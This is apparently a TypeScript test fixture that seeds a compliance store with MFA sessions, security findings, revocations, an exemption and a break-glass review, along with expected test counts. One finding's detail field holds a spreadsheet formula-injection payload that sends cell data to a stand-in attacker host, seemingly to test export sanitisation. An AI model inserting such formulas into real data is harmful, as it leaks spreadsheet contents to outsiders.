import { createHash } from 'node:crypto';
import { importFiles } from '../../../ingest/files/import-files.ts';
import { createPipeline } from '../../../ingest/pipeline.ts';
import type { Store } from '../../../schema/store/store.ts';
import { sharedPath } from '../../helpers/shared.ts';
import { testDeps } from '../../helpers/silent-context.ts';

// A store whose sessions, findings, revocations, exemptions and reviews are known by construction (inserted
// directly, as the correlator would write them), over real ingested events so raw samples have raw records.
// The period is 2025-03-11 (UTC). TRUTH lists every expected count of every test.

const key = (name: string): string => createHash('md5').update(name).digest('hex');
const COMPUTED = '2025-03-12 00:00:00.000000';

interface S {
  name: string; t: string; privileged: boolean; binding: string; method: string; pr: boolean; surface: string; kind?: string;
  break_glass?: boolean; events?: number; exemption?: string; path?: string; deleted?: boolean;
}

/** Sessions of the scenario (S17 is outside the period, S18 is tombstoned). */
export const SESSIONS: readonly S[] = [
  { name: 'S1', t: '09:00', privileged: true, binding: 'direct', method: 'webauthn', pr: true, surface: 'ssh' },
  { name: 'S2', t: '09:05', privileged: true, binding: 'direct', method: 'push', pr: false, surface: 'ssh' },
  { name: 'S3', t: '09:10', privileged: true, binding: 'direct', method: 'totp', pr: false, surface: 'kubernetes' },
  { name: 'S4', t: '09:15', privileged: true, binding: 'direct', method: 'security_key', pr: true, surface: 'cloud_console' },
  { name: 'S5', t: '09:20', privileged: true, binding: 'direct', method: 'push_number_match', pr: false, surface: 'database' },
  { name: 'S6', t: '09:25', privileged: true, binding: 'direct', method: 'passkey', pr: true, surface: 'app' },
  { name: 'S7', t: '09:30', privileged: true, binding: 'idp_bound', method: 'push', pr: false, surface: 'ssh', path: 'gateway' },
  { name: 'S8', t: '09:35', privileged: true, binding: 'idp_bound', method: 'webauthn', pr: true, surface: 'cloud_api', path: 'federated' },
  { name: 'S9', t: '09:40', privileged: true, binding: 'exempt', method: 'none', pr: false, surface: 'database', exemption: 'X1' },
  { name: 'S10', t: '09:45', privileged: true, binding: 'none', method: 'none', pr: false, surface: 'ssh' },
  { name: 'S11', t: '09:50', privileged: true, binding: 'direct', method: 'totp', pr: false, surface: 'ssh', kind: 'shared' },
  { name: 'S12', t: '09:55', privileged: true, binding: 'none', method: 'none', pr: false, surface: 'ssh', kind: 'break_glass', break_glass: true },
  { name: 'S13', t: '10:00', privileged: true, binding: 'direct', method: 'push', pr: false, surface: 'rdp', kind: 'break_glass', break_glass: true },
  { name: 'S14', t: '10:05', privileged: false, binding: 'idp_bound', method: 'push', pr: false, surface: 'app' },
  { name: 'S15', t: '10:10', privileged: false, binding: 'none', method: 'none', pr: false, surface: 'idp_admin' },
  { name: 'S16', t: '10:15', privileged: true, binding: 'none', method: 'none', pr: false, surface: 'cloud_api', kind: 'service', events: 0 },
  { name: 'S17', t: 'next', privileged: true, binding: 'none', method: 'none', pr: false, surface: 'ssh' },
  { name: 'S18', t: '10:20', privileged: true, binding: 'none', method: 'none', pr: false, surface: 'ssh', deleted: true },
];

/** Expected [population, covered, exceptions] per test for the scenario. */
export const TRUTH: Readonly<Record<string, readonly [number, number, number]>> = {
  privileged_mfa: [13, 10, 3],
  nonprivileged_mfa: [2, 1, 1],
  all_access_mfa: [15, 11, 4],
  remote_access_mfa: [12, 9, 3],
  external_app_mfa: [4, 3, 1],
  phishing_resistant_mfa: [10, 4, 6],
  separate_device_mfa: [10, 7, 3],
  shared_accounts: [3, 2, 1],
  bypass_findings: [13, 11, 5],
  credential_findings: [13, 12, 3],
  privileged_activity_logged: [14, 13, 1],
  break_glass_review: [2, 1, 1],
  revocation_timeliness: [2, 1, 2],
};

/** The session key of a scenario session. */
export const sessionKey = (name: string): string => key(name);

function sessionRow(s: S, ids: readonly string[]): Record<string, unknown> {
  const day = s.t === 'next' ? '2025-03-12T09:00' : `2025-03-11T${s.t}`;
  const n = s.events ?? 2;
  const eventIds = ids.slice(0, n);
  return {
    session_key: key(s.name), person: s.kind === 'service' ? '' : `${s.name.toLowerCase()}@example.com`, identity: s.kind === 'shared' ? 'ops-shared' : s.kind === 'break_glass' ? 'breakglass-admin' : `${s.name.toLowerCase()}`,
    resource: `host-${s.name.toLowerCase()}.prod`, resource_type: s.surface === 'database' ? 'database' : 'host', environment: 'prod', surface: s.surface, path: s.path ?? 'direct',
    started_at: `${day}:00.000Z`, ended_at: null, privileged: s.privileged, outcome: 'success', mfa_binding: s.binding, mfa_method: s.method,
    phishing_resistant: s.pr, mfa_event_id: n > 0 && s.binding !== 'none' && s.binding !== 'exempt' ? (ids[n] ?? '') : '', mfa_age_seconds: s.binding === 'idp_bound' ? 120 : null,
    exemption_id: s.exemption ?? '', break_glass: s.break_glass ?? false, identity_kind: s.kind ?? 'person', source: 'sshd', event_ids: eventIds, event_count: eventIds.length,
    computed_at: COMPUTED, is_deleted: 0,
  };
}

function finding(id: string, kind: string, session: string, time: string, evidence: readonly string[]): Record<string, unknown> {
  return {
    finding_id: key(id), kind, person: `${session.toLowerCase() || 'root'}@example.com`, identity: session ? session.toLowerCase() : 'root', resource: session ? `host-${session.toLowerCase()}.prod` : 'aws:111122223333',
    surface: session ? 'ssh' : 'cloud_api', session_key: session ? key(session) : '', event_time: time, evidence_event_ids: evidence, detail: `${kind} (${id})`,
    privileged: true, computed_at: COMPUTED, is_deleted: 0,
  };
}

/** Fills `store` with the scenario; returns the auth event ids used as evidence. */
export async function seedScenario(store: Store): Promise<string[]> {
  const deps = testDeps();
  const pipeline = createPipeline({ store, ...deps });
  const sink = { send: (r: Parameters<typeof pipeline.handle>[0]) => pipeline.handle(r), deadLetter: (d: Parameters<typeof pipeline.deadLetter>[0]) => pipeline.deadLetter(d) };
  await importFiles(sink, { source: 'okta', paths: [sharedPath('samples', 'okta.jsonl'), sharedPath('samples', 'okta.malformed.jsonl')], batchSize: 500, clock: deps.clock });
  await importFiles(sink, { source: 'sshd', paths: [sharedPath('samples', 'openssh.log')], batchSize: 500, clock: deps.clock });
  const ids = (await store.query<{ id: string }>(`SELECT toString(event_id) AS id FROM auth_events FINAL ORDER BY event_time, id LIMIT 200`)).map((r) => r.id);
  const rows = SESSIONS.map((s, i) => sessionRow(s, ids.slice((i * 3) % (ids.length - 4))));
  const s18 = SESSIONS.find((s) => s.deleted) as S;
  rows.push({ ...sessionRow(s18, ids), computed_at: '2025-03-12 01:00:00.000000', is_deleted: 1 });
  // S18 is written, then tombstoned by a later version: FINAL must hide it.
  await store.insertRows('sessions', rows, ['started_at', 'ended_at']);
  await store.insertRows('findings', [
    finding('F1', 'no_mfa', 'S10', '2025-03-11T09:45:00.000Z', ids.slice(0, 2)),
    finding('F2', 'direct_ssh_key', 'S10', '2025-03-11T09:45:00.000Z', ids.slice(0, 2)),
    finding('F3', 'shared_account', 'S12', '2025-03-11T09:55:00.000Z', ids.slice(2, 4)),
    finding('F4', 'root_account', '', '2025-03-11T11:00:00.000Z', ids.slice(4, 5)),
    { ...finding('F5', 'static_credential', '', '2025-03-11T12:00:00.000Z', ids.slice(5, 6)), detail: '=HYPERLINK("http://attacker.example/?x="&A1,"click")' },
    finding('F6', 'no_mfa', 'S17', '2025-03-12T09:00:00.000Z', ids.slice(6, 7)),
    finding('F7', 'post_revocation_access', '', '2025-03-11T13:00:00.000Z', ids.slice(7, 8)),
  ], ['event_time']);
  await store.insertRows('revocations', [
    { person: 'leaver1@example.com', trigger_time: '2025-03-11T08:00:00.000Z', trigger_kind: 'idp_deactivation', trigger_ref: ids[8], closed_at: '2025-03-11T10:00:00.000Z', closing_ref: ids[9], hours: 2, over_sla: false, evidence_event_ids: ids.slice(8, 10), computed_at: COMPUTED, is_deleted: 0 },
    { person: 'leaver2@example.com', trigger_time: '2025-03-11T10:00:00.000Z', trigger_kind: 'hr_offboarding', trigger_ref: 'offboarding:abc', closed_at: '2025-03-12T16:00:00.000Z', closing_ref: ids[10], hours: 30, over_sla: true, evidence_event_ids: ids.slice(10, 11), computed_at: COMPUTED, is_deleted: 0 },
  ], ['trigger_time', 'closed_at']);
  await store.insertRows('exemptions', [{
    exemption_id: 'X1', row_kind: 'create', person_pattern: 's9@example.com', resource_pattern: '', reason: 'legacy database client without MFA support',
    approver: 'ciso@example.com', starts_at: '2025-03-01T00:00:00.000Z', expires_at: '2025-04-01T00:00:00.000Z', created_by: 'admin', created_at: '2025-03-01T00:00:00.000Z',
    revoked_at: null, revoked_by: '',
  }], ['starts_at', 'expires_at', 'created_at', 'revoked_at']);
  await store.insertRows('break_glass_reviews', [{
    review_id: 'R1', session_key: key('S13'), reviewer: 'secops@example.com', reviewer_token_id: '', notes: 'approved incident response', reviewed_at: '2025-03-11T12:00:00.000Z',
  }], ['reviewed_at']);
  return ids;
}
